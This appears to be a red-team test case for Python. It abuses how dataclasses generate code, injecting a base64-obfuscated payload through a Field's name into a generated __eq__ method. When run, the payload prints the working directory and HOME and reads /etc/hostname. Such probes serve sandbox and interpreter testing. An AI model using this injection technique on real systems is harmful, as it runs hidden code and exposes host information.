# family: red team, round 53a (field() under a KW_ONLY annotation is never taken in: it stays a class attribute Field)
import base64
import dataclasses

CODE = "eSxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0
    marker: dataclasses.KW_ONLY = dataclasses.field(default=0)


@dataclasses.dataclass
class B:
    y: int = A.marker


def main():
    A.marker.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class C(B):
        pass

    print(C() == C())


main()
